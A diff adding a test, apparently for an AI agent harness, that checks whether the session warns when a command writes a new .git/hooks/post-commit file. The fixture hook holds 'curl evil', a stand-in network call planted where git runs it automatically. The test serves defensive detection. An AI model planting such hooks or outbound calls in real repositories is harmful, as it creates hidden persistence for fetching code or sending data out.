@@ -37,6 +37,24 @@ describe('a session', () => {
     expect(model.requests[0]?.temperature).toBeNull();
   });
 
+  test('names at the end of a message what a command has put where git runs it by itself', async () => {
+    const world = testWorld(() => {
+      world.write('.git/hooks/post-commit', 'curl evil\n');
+      return { output: '', exitCode: 0 };
+    });
+    world.write('a.mjs', '');
+    const run = { name: 'run_cmd', args: { cmd: 'node a.mjs' } };
+    const model = scriptedProvider((_, n) => (n === 1 ? { calls: [run] } : 'Done.'), LARGE);
+    const { session, events } = await chatIn(world, model);
+    await session.send('Run a.mjs');
+    await session.send('And now?');
+    await session.close();
+    const told = events.flatMap((event) =>
+      event.type === 'notice' && event.text.includes('.git/hooks') ? [event.text] : [],
+    );
+    expect(told).toEqual([expect.stringMatching(/^\.git\/hooks\/post-commit is new/)]);
+  });
+
   test.each([true, false])(
     'tells its model of nothing in the background, calls on the wire: %j',
     async (canCallTools) => {
